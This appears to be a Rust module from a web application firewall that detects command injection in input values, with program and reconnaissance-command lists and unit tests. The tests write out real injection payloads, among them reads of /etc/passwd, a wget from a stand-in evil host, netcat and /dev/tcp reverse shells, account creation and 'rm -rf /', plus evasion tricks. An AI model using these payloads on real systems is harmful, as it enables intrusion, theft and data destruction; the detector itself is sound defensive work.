//! Command injection: would the value, pasted into a shell command line,
//! run a command of its own?
//!
//! The value is read as a POSIX shell (and Windows `cmd`) would read it as an
//! argument: bare, or after the single or double quote it closes. What it
//! must do to be an attack is reach a command position (after `;`, `|`,
//! `&&`, a newline, inside `$( )` or backticks) and put a command there: a
//! path to a program, or the name of one with what that program takes
//! (options, paths, addresses). Quotes, backslashes, `^`, `$@` and `${IFS}`
//! inside words are undone first, as the shell undoes them. `rock & roll`,
//! `AT&T` and `ping pong table` put no command anywhere.

use super::{lowercase_into, preceding_word, ByteSet, Hit};

pub fn inspect(value: &str) -> Option<Hit> {
    inspect_in(value, &ByteSet::in_text(value))
}

/// [`inspect`], given the bytes `value` holds.
pub(super) fn inspect_in(value: &str, present: &ByteSet) -> Option<Hit> {
    if !present.meets(&SHELL_SYNTAX) {
        // No shell syntax: only a whole command line can run anything: a
        // program with arguments, a path to one (`/usr/bin/id`), or a
        // reconnaissance command on its own.
        let program_path = value.starts_with(['/', '\\']);
        if !program_path && !value.contains(' ') && !RECON.iter().any(|r| value.eq_ignore_ascii_case(r)) {
            return None;
        }
        let first = value.split_ascii_whitespace().next().unwrap_or("");
        let name = first.rsplit(['/', '\\']).next().unwrap_or(first);
        // Program names are short ASCII words.
        if name.len() > 16
            || !name
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'.')
        {
            return None;
        }
        let mut buffer = [0; 16];
        let name = lowercase_into(name, &mut buffer).unwrap_or_default();
        if !is_program(name) && !is_english_program(name) {
            return None;
        }
        return whole_command(&pieces(value));
    }
    if shellshock(value) {
        return Some(Hit {
            score: 5,
            context: "environment variable (Shellshock)",
            at: 0,
        });
    }
    let mut best: Option<Hit> = None;
    let mut consider = |hit: Option<Hit>| {
        if let Some(hit) = hit {
            if best.as_ref().is_none_or(|b| hit.score > b.score) {
                best = Some(hit);
            }
        }
    };
    consider(code_execution(value));
    consider(scan(value, 0, "shell argument"));
    for (quote, context) in [
        ('\'', "single-quoted shell argument"),
        ('"', "double-quoted shell argument"),
    ] {
        if let Some(at) = value.find(quote) {
            consider(scan(value, at + 1, context));
        }
    }
    best
}

/// A value that is a whole command line, for apps that run what they are
/// sent: a program with real arguments (`ls -l /etc/`, not `python jobs`),
/// surest when the arguments reach for a shell or the system's files.
fn whole_command(pieces: &[Piece]) -> Option<Hit> {
    let [Piece::Word(program), rest @ ..] = pieces else {
        return None;
    };
    let name = program
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or(program)
        .to_ascii_lowercase();
    // At the start of a value a program name is also a search term
    // (`python 3`, `PS 5`, `LS 400`, `Route 66`, `NC 27601`): those need
    // the arguments a word does.
    let searched = SEARCHED.contains(&name.as_str());
    let strong = is_program(&name) && !searched;
    let english = is_english_program(&name) || searched;
    let arguments = matches!(rest.first(), Some(Piece::Word(_))) && takes_arguments(rest);
    let system = rest.iter().any(|piece| match piece {
        Piece::Word(word) => {
            let lower = word.to_ascii_lowercase();
            // `/`, `/*`, `~`: the whole file system or home.
            matches!(lower.as_str(), "/" | "/*" | "~" | "~/")
                || [
                    "/bin/",
                    "/etc/",
                    "/dev/tcp/",
                    "/usr/bin/",
                    "/sbin/",
                    "c:\\windows",
                    "c:windows",
                    "%systemroot%",
                    "%windir%",
                ]
                .iter()
                .any(|dir| lower.starts_with(dir))
        }
        _ => false,
    });
    // `which nc`, `reg add ...`: a program that names another or changes the system.
    let second = match rest.first() {
        Some(Piece::Word(word)) => word.to_ascii_lowercase(),
        _ => String::new(),
    };
    let manages = (name == "which" && (is_program(&second) || is_english_program(&second)))
        || (name == "reg" && ["add", "query", "delete", "save", "export"].contains(&second.as_str()))
        || (name == "net" && NET_COMMANDS.contains(&second.as_str()));
    let score = match (strong, english, arguments, system) {
        _ if manages => 5,
        (true, _, true, _) | (false, true, true, true) => 5,
        // The reconnaissance commands, alone: what a probe runs first.
        (true, _, false, _) if rest.is_empty() && RECON.contains(&name.as_str()) => 5,
        (true, _, false, _) if rest.is_empty() => 3,
        (false, true, true, false) => 4,
        _ => return None,
    };
    Some(Hit {
        score,
        context: "command line",
        at: 0,
    })
}

/// Code that runs a command, in the languages payload lists target:
/// Node's `child_process`, PHP's `system()` family, `eval('ls')`, and
/// server-side includes (`<!--#exec cmd=...-->`).
fn code_execution(value: &str) -> Option<Hit> {
    let bytes = value.as_bytes();
    // `name('...')`: each `(` with a code-running name before it and a
    // string after it.
    let call = memchr::memchr_iter(b'(', bytes).any(|at| {
        let name = preceding_word(bytes, at);
        let argument = value[at + 1..].trim_start();
        argument.starts_with(['\'', '"', '`']) && CODE_CALLS.iter().any(|c| name.eq_ignore_ascii_case(c.as_bytes()))
    });
    // PHP's information functions need no argument.
    let php_info = memchr::memchr_iter(b'(', bytes).any(|at| {
        let name = preceding_word(bytes, at);
        name.eq_ignore_ascii_case(b"phpinfo") || name.eq_ignore_ascii_case(b"phpversion")
    });
    let runs = call
        || php_info
        || memchr::memmem::find(bytes, b"child_process").is_some()
        || memchr::memmem::find(bytes, b"<!--#exec").is_some();
    runs.then_some(Hit {
        score: 5,
        context: "code that runs a command",
        at: 0,
    })
}

/// Functions that run a command line or code given as a string.
/// Program names people also search for, or write as words.
const SEARCHED: &[&str] = &[
    "route", "dig", "nc", "node", "python", "python2", "python3", "perl", "ruby", "php", "lua", "curl", "bash", "ps",
    "ls", "rm", "sc", "ver", "sed", "awk", "ssh", "sh", "dir", "arp", "gawk", "zsh",
];

/// Commands that only tell an attacker about the machine.
const RECON: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "systeminfo",
    "netstat",
    "sysinfo",
];

const CODE_CALLS: &[&str] = &[
    "system",
    "exec",
    "execsync",
    "spawn",
    "spawnsync",
    "execfile",
    "passthru",
    "shell_exec",
    "popen",
    "proc_open",
    "eval",
];

const SHELL_SYNTAX: ByteSet = ByteSet::of(b";|&\n`$(){}<>'\"");

/// `() { :; };` at the start of a header value defined a function in bash
/// before 4.3, and ran what followed.
fn shellshock(value: &str) -> bool {
    let compact: String = value.chars().filter(|c| !c.is_whitespace()).take(6).collect();
    compact.starts_with("(){")
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Piece {
    /// A word as the shell passes it on, quotes and escapes undone.
    Word(String),
    /// `;`, `|`, `&`, `&&`, `||`, a newline, or a substitution's start:
    /// what follows is a command.
    Separator,
    /// `` ` `` opening a substitution after a plain word (`run `ls` here`):
    /// prose with inline code more often than an attack.
    ProseBacktick,
    /// `>`, `<`, `2>&1`.
    Redirect,
    /// `)` or a closing backtick.
    Close,
}

/// Reads `value[start..]` as shell and scores the commands it reaches.
fn scan(value: &str, start: usize, context: &'static str) -> Option<Hit> {
    let pieces = pieces(&value[start..]);
    let mut best: Option<u8> = None;
    if start == 0 {
        best = whole_command(&pieces).map(|hit| hit.score);
    }
    let mut command_position = false;
    let mut prose = false;
    let mut at = start;
    for (index, piece) in pieces.iter().enumerate() {
        match piece {
            Piece::Separator => {
                command_position = true;
                prose = false;
            }
            Piece::ProseBacktick => {
                command_position = true;
                prose = true;
            }
            Piece::Word(word) if command_position => {
                command_position = false;
                let score = command_score(word, &pieces[index + 1..]).map(|s| if prose { s.min(3) } else { s });
                if score > best {
                    best = score;
                    at = start;
                }
            }
            _ => command_position = false,
        }
    }
    best.map(|score| Hit { score, context, at })
}

/// How surely `word`, in command position and followed by `rest`, runs a
/// program: a path to one, a program that is not also a word of English,
/// or a program that is, given what it takes.
fn command_score(word: &str, rest: &[Piece]) -> Option<u8> {
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word).to_ascii_lowercase();
    let name = name.strip_suffix(".exe").unwrap_or(&name);
    let is_path = word.starts_with('/')
        || word.starts_with("./")
        || word.starts_with("~/")
        || windows_path(word)
        || word.starts_with("usr/bin/")
        || word.starts_with("bin/");
    if is_path && (is_program(name) || is_english_program(name) || word.starts_with("/dev/tcp/")) {
        return Some(5);
    }
    if is_path && (word.starts_with("/bin/") || word.starts_with("/usr/") || word.starts_with("/sbin/")) {
        return Some(5);
    }
    if is_program(name) {
        return Some(5);
    }
    if is_english_program(name) && takes_arguments(rest) {
        return Some(5);
    }
    // `net user`, `net localgroup`: the Windows account and share commands.
    let net_command = |sub: &str| NET_COMMANDS.contains(&sub.to_ascii_lowercase().as_str());
    if name == "net" && matches!(rest.first(), Some(Piece::Word(sub)) if net_command(sub)) {
        return Some(5);
    }
    // `;id;`, the payload lists' favourite: `id` needs no arguments.
    if name == "id"
        && matches!(
            rest.first(),
            None | Some(Piece::Separator | Piece::Close | Piece::Redirect)
        )
    {
        return Some(5);
    }
    None
}

/// What follows a program named like a word reads as its arguments, not as
/// prose: an option, a path, an address, a redirect, or a number that ends
/// the line (`sleep 5`). A line that just ends (`rock & roll | AT&T`) does not.
fn takes_arguments(rest: &[Piece]) -> bool {
    // `echo "..." > shell.php`: output sent to a file.
    if rest
        .iter()
        .take_while(|p| **p != Piece::Separator)
        .any(|p| *p == Piece::Redirect)
    {
        return true;
    }
    match rest.first() {
        None | Some(Piece::Separator | Piece::Close | Piece::ProseBacktick) => false,
        Some(Piece::Redirect) => true,
        Some(Piece::Word(next)) => {
            let number = next.bytes().all(|b| b.is_ascii_digit() || b == b'.');
            next.starts_with('-')
                || next.starts_with('/')
                || next.starts_with("./")
                || next.starts_with("../")
                || next.starts_with('~')
                || next.starts_with('$')
                || windows_path(next)
                || next.contains("://")
                || (number && !matches!(rest.get(1), Some(Piece::Word(_))))
        }
    }
}

fn windows_path(word: &str) -> bool {
    let bytes = word.as_bytes();
    // `C:\Windows` (or `C:Windows` once a POSIX shell ate the backslash).
    (bytes.len() >= 2 && bytes[0].is_ascii_alphabetic() && bytes[1] == b':')
        || word.starts_with("\\\\")
        || word.starts_with('%')
}

/// The value split as the shell splits it.
fn pieces(text: &str) -> Vec<Piece> {
    let bytes = text.as_bytes();
    let mut pieces = Vec::new();
    let mut word = String::new();
    let mut in_backticks = false;
    let mut i = 0;
    let flush = |word: &mut String, pieces: &mut Vec<Piece>| {
        if !word.is_empty() {
            pieces.push(Piece::Word(std::mem::take(word)));
        }
    };
    while i < bytes.len() {
        let byte = bytes[i];
        match byte {
            b' ' | b'\t' | b'\r' | 0x0B | 0x0C => flush(&mut word, &mut pieces),
            b'\n' | b';' | b'&' | b'|' => {
                flush(&mut word, &mut pieces);
                // `2>&1`: a redirect, not a separator.
                if byte == b'&' && pieces.last() == Some(&Piece::Redirect) {
                    i += 1;
                    continue;
                }
                pieces.push(Piece::Separator);
                while matches!(bytes.get(i + 1), Some(b'&' | b'|')) {
                    i += 1;
                }
            }
            b'`' => {
                let after_prose = !in_backticks && !word.is_empty() || matches!(pieces.last(), Some(Piece::Word(_)));
                flush(&mut word, &mut pieces);
                if in_backticks {
                    pieces.push(Piece::Close);
                } else if after_prose && !word_glued(bytes, i) {
                    pieces.push(Piece::ProseBacktick);
                } else {
                    pieces.push(Piece::Separator);
                }
                in_backticks = !in_backticks;
            }
            b'$' if bytes.get(i + 1) == Some(&b'(') => {
                flush(&mut word, &mut pieces);
                pieces.push(Piece::Separator);
                i += 1;
            }
            b'<' | b'>' if bytes.get(i + 1) == Some(&b'(') => {
                flush(&mut word, &mut pieces);
                pieces.push(Piece::Separator);
                i += 1;
            }
            b')' => {
                flush(&mut word, &mut pieces);
                pieces.push(Piece::Close);
            }
            b'<' | b'>' => {
                // `2>`: the descriptor belongs to the redirect.
                if word.bytes().all(|b| b.is_ascii_digit()) {
                    word.clear();
                }
                flush(&mut word, &mut pieces);
                pieces.push(Piece::Redirect);
                while matches!(bytes.get(i + 1), Some(b'>' | b'<')) {
                    i += 1;
                }
            }
            b'$' => i += skip_empty_expansion(&bytes[i..], &mut word, &mut pieces) - 1,
            b'{' if word.is_empty() && brace_list(&text[i..]).is_some() => {
                // `{cat,/etc/passwd}` expands to `cat /etc/passwd`.
                let (items, used) = brace_list(&text[i..]).unwrap_or_default();
                pieces.extend(items.into_iter().map(Piece::Word));
                i += used - 1;
            }
            b'\'' | b'"' => {
                // Quotes join their contents to the word, then vanish.
                let close = memchr::memchr(byte, &bytes[i + 1..]).map_or(bytes.len(), |end| i + 1 + end);
                word.push_str(&text[i + 1..close]);
                i = close;
            }
            b'\\' => {
                if let Some(next) = text[i + 1..].chars().next() {
                    if next != '\n' {
                        word.push(next);
                    }
                    i += next.len_utf8();
                }
            }
            // `cmd` escapes: `w^h^o^a^m^i`.
            b'^' => {}
            _ => {
                let c = text[i..].chars().next().unwrap_or('\u{FFFD}');
                word.push(c);
                i += c.len_utf8();
                continue;
            }
        }
        i += 1;
    }
    flush(&mut word, &mut pieces);
    pieces
}

/// A backtick directly after a word character (`x`id``): no space, so not prose.
fn word_glued(bytes: &[u8], at: usize) -> bool {
    at > 0 && bytes[at - 1].is_ascii_alphanumeric()
}

/// `${IFS}`, `$IFS`, `$@`, `$*`, `$1`: expansions an attacker uses as empty
/// strings or spaces. Others stay in the word. Returns the bytes used.
fn skip_empty_expansion(bytes: &[u8], word: &mut String, pieces: &mut Vec<Piece>) -> usize {
    let rest = &bytes[1..];
    let ifs = |r: &[u8]| r.len() >= 3 && r[..3].eq_ignore_ascii_case(b"IFS");
    match rest.first() {
        Some(b'@' | b'*' | b'0'..=b'9') => 2,
        Some(b'{') => {
            let end = memchr::memchr(b'}', rest).map_or(rest.len(), |e| e + 1);
            if ifs(&rest[1..]) && !word.is_empty() {
                pieces.push(Piece::Word(std::mem::take(word)));
            }
            1 + end
        }
        _ if ifs(rest) => {
            if !word.is_empty() {
                pieces.push(Piece::Word(std::mem::take(word)));
            }
            4
        }
        _ => {
            word.push('$');
            1
        }
    }
}

/// `{a,b,c}` at the start of a word: its items and the bytes used. Looked
/// for within a short window, so a value of many `{` stays linear.
fn brace_list(text: &str) -> Option<(Vec<String>, usize)> {
    let window = &text.as_bytes()[..text.len().min(256)];
    let end = memchr::memchr(b'}', window)?;
    let inner = &text[1..end];
    if !inner.contains(',') || inner.contains([' ', '{']) {
        return None;
    }
    Some((inner.split(',').map(str::to_owned).collect(), end + 1))
}

fn is_program(name: &str) -> bool {
    PROGRAMS.binary_search(&name).is_ok()
}

fn is_english_program(name: &str) -> bool {
    ENGLISH_PROGRAMS.binary_search(&name).is_ok()
}

/// Programs whose names are not words of English (or of prose generally),
/// so naming one in command position is enough. Sorted, for binary search.
const PROGRAMS: &[&str] = &[
    "arp",
    "awk",
    "base64",
    "bash",
    "bitsadmin",
    "busybox",
    "certutil",
    "chmod",
    "chown",
    "cmd",
    "crontab",
    "cscript",
    "csh",
    "curl",
    "dash",
    "dig",
    "dir",
    "dmesg",
    "egrep",
    "gawk",
    "getent",
    "grep",
    "hexdump",
    "hostname",
    "icacls",
    "ifconfig",
    "ifup",
    "ipconfig",
    "iptables",
    "killall",
    "ksh",
    "ls",
    "lsof",
    "lua",
    "mkdir",
    "mkfifo",
    "msfvenom",
    "mshta",
    "nbtstat",
    "nc",
    "ncat",
    "net1",
    "netcat",
    "netsh",
    "netstat",
    "nmap",
    "node",
    "nohup",
    "nslookup",
    "openssl",
    "passwd",
    "perl",
    "php",
    "pkill",
    "powershell",
    "printenv",
    "ps",
    "pwd",
    "pwsh",
    "python",
    "python2",
    "python3",
    "quser",
    "regsvr32",
    "rm",
    "rmdir",
    "route",
    "rsync",
    "ruby",
    "rundll32",
    "schtasks",
    "scp",
    "sed",
    "sh",
    "socat",
    "ssh",
    "ssh-keygen",
    "sudo",
    "sysctl",
    "systeminfo",
    "taskkill",
    "tasklist",
    "tcsh",
    "telnet",
    "tftp",
    "traceroute",
    "tracert",
    "uname",
    "uptime",
    "useradd",
    "usermod",
    "ver",
    "vssadmin",
    "wget",
    "whoami",
    "wmic",
    "wscript",
    "xargs",
    "xterm",
    "xxd",
    "zsh",
];

const NET_COMMANDS: &[&str] = &[
    "user",
    "localgroup",
    "group",
    "view",
    "share",
    "use",
    "accounts",
    "session",
    "start",
    "stop",
    "config",
];

/// Programs named like words (`cat`, `sleep`, `ping`): in command position
/// they count only with arguments. Sorted, for binary search.
const ENGLISH_PROGRAMS: &[&str] = &[
    "at", "cat", "copy", "cut", "date", "del", "echo", "env", "eval", "exec", "export", "file", "find", "finger",
    "head", "host", "id", "kill", "last", "less", "mail", "more", "move", "net", "nl", "od", "paste", "ping", "print",
    "read", "reg", "ren", "rev", "set", "sleep", "sort", "source", "start", "strings", "tac", "tail", "tar", "tee",
    "time", "touch", "type", "unzip", "w", "wait", "wc", "which", "who", "whois", "zip",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::waf::testing;

    #[test]
    fn commands_reached_from_an_argument_are_found() {
        testing::assert_all(
            inspect,
            &[
                ";id",
                "; cat /etc/passwd",
                "| whoami",
                "&& ping -c 10 127.0.0.1",
                "|| wget http://evil.example/x.sh",
                "$(sleep 5)",
                "`id`",
                "x`whoami`",
                "127.0.0.1\nid",
                "';id;'",
                "\";cat /etc/passwd;\"",
                "\"$(id)\"",
                ";cat${IFS}/etc/passwd",
                ";c\\at /etc/passwd",
                ";c'a't /etc/passwd",
                ";{cat,/etc/passwd}",
                "| /usr/bin/id",
                "& dir C:\\",
                "| type C:\\Windows\\win.ini",
                "& w^h^o^a^m^i",
                "() { :; }; /bin/bash -c 'id'",
                ";sleep 5;",
                "|nc -e /bin/sh 10.0.0.1 4444",
                "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
                "\nid",
                "uname -a",
                "which nc",
                "net user hacker Password1 /ADD",
                "reg add \"HKLM\\System\" /v x /d 0 /f",
                "rm -rf /",
                "phpinfo()",
            ],
            true,
        );
    }

    #[test]
    fn program_lists_are_sorted_for_binary_search() {
        assert!(PROGRAMS.windows(2).all(|w| w[0] < w[1]));
        assert!(ENGLISH_PROGRAMS.windows(2).all(|w| w[0] < w[1]));
    }

    #[test]
    fn prose_with_shell_characters_passes() {
        testing::assert_all(
            inspect,
            &[
                "rock & roll",
                "AT&T",
                "ping pong table",
                "I love cats; cat food is great",
                "tired; sleep 8 hours",
                "Home | My Site",
                "Tom & Jerry | cartoons",
                "run `ls -la` to see the files",
                "price $5 (approx)",
                "a && b || c",
                "Q&A: what's new?",
                "fish & chips; mushy peas",
                "<b>bold</b> & <i>italic</i>",
                "meet me at 5; time flies",
                "Route 66 & 4th Ave (corner)",
                "PS 5",
                "python 3",
                "LS 400 (1990)",
                "Raleigh, NC 27601",
                "rm -rf meme shirt",
            ],
            false,
        );
    }
}
